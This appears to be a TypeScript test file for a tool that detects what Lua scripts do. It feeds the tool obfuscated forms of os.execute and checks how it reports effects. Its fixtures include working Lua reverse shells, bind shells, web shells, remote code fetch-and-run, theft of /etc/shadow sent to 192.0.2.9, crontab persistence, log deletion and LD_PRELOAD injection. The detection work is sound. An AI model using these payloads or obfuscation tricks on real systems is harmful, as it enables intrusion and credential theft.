import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import { effectLines, readingOf } from '../../../testing/reading-of.ts';
import type { Reading, ReadingInput } from '../../language.ts';
import { render } from '../../value.ts';
import { lua } from './lua.ts';

beforeAll(async () => {
  useGrammarFiles();
  await lua.prepare();
});

function read(text: string, more: Partial<ReadingInput> = {}): Reading {
  return readingOf(lua, 'main.lua', text, more);
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');

describe('names and values', () => {
  test.each<readonly [string, string]>([
    ['os.execute("ls")', 'ls'],
    ["os.execute 'ls'", 'ls'],
    ['os.execute([[ls -l]])', 'ls -l'],
    ['io.popen("ls"):read("*a")', 'ls'],
    ['_G["os"]["execute"]("ls")', 'ls'],
    ['_G.os["ex".."ecute"]("ls")', 'ls'],
    ['package.loaded.os.execute("ls")', 'ls'],
    ['require("os").execute("ls")', 'ls'],
    ['local f = os.execute; f("ls")', 'ls'],
    ['local o <const> = os o.execute("ls")', 'ls'],
    ['os.execute(string.char(108, 115))', 'ls'],
    ['os.execute(("sl"):reverse())', 'ls'],
    ['os.execute(string.reverse("sl"))', 'ls'],
    ['os.execute(string.format("%s -%c", "ls", 108))', 'ls -l'],
    ['os.execute(("ls "):rep(2))', 'ls ls '],
    ['os.execute(("xlsx"):sub(2, -2))', 'ls'],
    ['os.execute(("LS"):lower())', 'ls'],
    ['os.execute(table.concat({"l", "s"}))', 'ls'],
    ['os.execute(table.concat({"ls", "-l"}, " "))', 'ls -l'],
    ['os.execute((("l-s"):gsub("-", "")))', 'ls'],
    ['os.execute((("l1s2"):gsub("%d", "")))', 'ls'],
    ['os.execute((("6c73"):gsub("%x%x", function(h) return string.char(tonumber(h, 16)) end)))', 'ls'],
    ['os.execute((("6c73"):gsub("..", function(h) return string.char(tonumber(h, 16)) end)))', 'ls'],
    ['local s = "" for w in ("l s"):gmatch("%S+") do s = s .. w end os.execute(s)', 'ls'],
    ['local s = "" for i, c in ipairs({108, 115}) do s = s .. string.char(c) end os.execute(s)', 'ls'],
    ['local s = "" for i = 1, 2 do s = s .. ("ls"):sub(i, i) end os.execute(s)', 'ls'],
    ['local s, i = "", 2 while i > 0 do s = s .. ("sl"):sub(i, i) i = i - 1 end os.execute(s)', 'ls'],
    ['local s = "" local i = 1 repeat s = s .. ("ls"):sub(i, i) i = i + 1 until i > 2 os.execute(s)', 'ls'],
    ['os.execute(string.char(bit.bxor(109, 1), 114 ~ 1))', 'ls'],
    ['os.execute("\\108\\x73")', 'ls'],
    ['local t = {a = {b = "ls"}} os.execute(t.a["b"])', 'ls'],
    ['local t = {"x", "ls"} os.execute(t[2])', 'ls'],
    ['local t = {} t[#t + 1] = "l" table.insert(t, "s") os.execute(table.concat(t))', 'ls'],
    ['local function f(a, b) return a .. b end os.execute(f("l", "s"))', 'ls'],
    ['local function f() return "l", "s" end local a, b = f() os.execute(a .. b)', 'ls'],
    ['local a, b = "l", "s" os.execute(a .. b)', 'ls'],
    ['local M = {} function M.go(c) os.execute(c) end M.go("ls")', 'ls'],
    ['local M = {c = "ls"} function M:go() os.execute(self.c) end M:go()', 'ls'],
    ['local M = {c = "ls"} function M.go(self) os.execute(self.c) end M:go()', 'ls'],
    ['function never() os.execute("ls") end', 'ls'],
    ['pcall(os.execute, "ls")', 'ls'],
    ['local ok, r = pcall(function() return "ls" end) os.execute(r)', 'ls'],
    ['if x then os.execute("ls") else os.execute("no") end', 'ls'],
    ['if x then y() elseif z then os.execute("ls") end', 'ls'],
    ['load("c = [[ls]]")() os.execute("ls")', 'ls'],
    ['local c = "ls" load("os.execute(c)")() os.execute("ls")', 'ls'],
    [`os.execute(require("mime").unb64("${b64('ls')}"))`, 'ls'],
    ['local ffi = require("ffi") ffi.cdef[[int system(const char*);]] ffi.C.system("ls")', 'ls'],
    ['coroutine.wrap(function() os.execute("ls") end)()', 'ls'],
    ['local function f(...) local a, b = ... os.execute(a .. b) end f("l", "s")', 'ls'],
    ['local function f(...) local t = {...} os.execute(t[1]) end f("ls")', 'ls'],
    ['os.execute(select(2, "a", "ls"))', 'ls'],
    ['os.execute(unpack({"ls"}))', 'ls'],
    ['goto x ::x:: os.execute("ls")', 'ls'],
  ])('%s', (text, expected) => {
    const reading = read(text);
    expect(reading.commands.map((command) => render(command.argv[2] ?? []))).toContain(expected);
    expect(reading.truncated).toBe(false);
  });
});

describe('effects', () => {
  test.each<readonly [string, string]>([
    [
      'local s = require("socket").tcp() s:connect("192.0.2.9", 4444) while true do local c = s:receive() local f = io.popen(c) s:send(f:read("*a")) end',
      'connect to={host=192.0.2.9 port=4444 protocol=tcp} shell={program=sh how=runs what it receives}',
    ],
    [
      'local socket = require "socket" local c = assert(socket.connect("192.0.2.9", 4444)) os.execute(c:receive())',
      'connect to={host=192.0.2.9 port=4444 protocol=tcp} shell={program=sh how=runs what it receives}',
    ],
    [
      'local p = require("posix") local s = require("socket").tcp() s:connect("192.0.2.9", 4444) p.dup2(s:getfd(), 0) p.dup2(s:getfd(), 1) p.exec("/bin/sh", "-i")',
      'connect to={host=192.0.2.9 port=4444 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
    ],
    [
      'local s = require("socket").bind("*", 4444) local c = s:accept() while true do io.popen(c:receive()) end',
      'listen at={host=* port=4444 protocol=tcp} shell={program=sh how=runs what it receives}',
    ],
    [
      'local b = require("socket.http").request("http://192.0.2.9/x.lua") load(b)()',
      'run what=‹body› interpreter=lua from=fetched fetched=0',
    ],
    [
      'local h = require("socket.http") h.request{url="http://192.0.2.9/x", sink=ltn12.sink.file(io.open("/tmp/x", "wb"))}',
      'fetch url=http://192.0.2.9/x tool=lua socket.http.request to=/tmp/x',
    ],
    [
      'local f = io.open("/mnt/etc/crontab", "a") f:write("* * * * * root id\\n") f:close()',
      'append path=/mnt/etc/crontab content=* * * * * root id\n',
    ],
    ['os.remove("/var/log/auth.log")', 'delete path=/var/log/auth.log'],
    ['os.rename("/tmp/a", "/usr/bin/ls")', 'write path=/usr/bin/ls'],
    [
      'local f = io.open("/etc/shadow") require("socket.http").request("http://192.0.2.9/", f:read("*a"))',
      'exfiltrate to=http://192.0.2.9/ what=‹file /etc/shadow›',
    ],
    [
      'local f = io.open("/etc/shadow", "rb") local s = require("socket").tcp() s:connect("192.0.2.9", 80) s:send(f:read("*all"))',
      'exfiltrate to=192.0.2.9:80 what=‹file /etc/shadow› via=socket',
    ],
    ['ngx.say(io.popen(ngx.var.arg_cmd):read("*a"))', 'run what=‹ngx.var.arg_cmd› interpreter=sh from=request'],
    ['local a = ngx.req.get_uri_args() os.execute(a.cmd)', 'run what=‹cmd› interpreter=sh from=request'],
    [
      `load(ngx.decode_base64("${b64('os.execute("ls")')}"))()`,
      'run what=os.execute("ls") interpreter=lua from=decoded',
    ],
    ['require("posix").setenv("LD_PRELOAD", "/tmp/x.so")', 'preload library=/tmp/x.so how=environment'],
  ])('%s', (text, expected) => {
    expect(effectLines(read(text))).toContain(expected);
  });
});

test('a file that stands beside the script is loaded', () => {
  const reading = read('local m = require("lib.evil") dofile("/opt/x.lua")', {
    readFile: (path) => (path === '/app/lib/evil.lua' || path === '/opt/x.lua' ? 'return 1' : undefined),
  });
  expect(reading.loads.map((load) => load.path)).toEqual(['/app/lib/evil.lua', '/opt/x.lua']);
});

test('says nothing about code that says nothing', () => {
  const reading = read(
    'local t = {} for k, v in pairs(t) do print(k, v) end local f = load(x) if f then f() end return t',
  );
  expect([reading.effects, reading.commands, reading.nested]).toEqual([[], [], []]);
});

test('never throws on any text', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300 }), (text) => {
      expect(read(text).commands.length).toBeLessThan(100);
    }),
    { numRuns: 200 },
  );
});
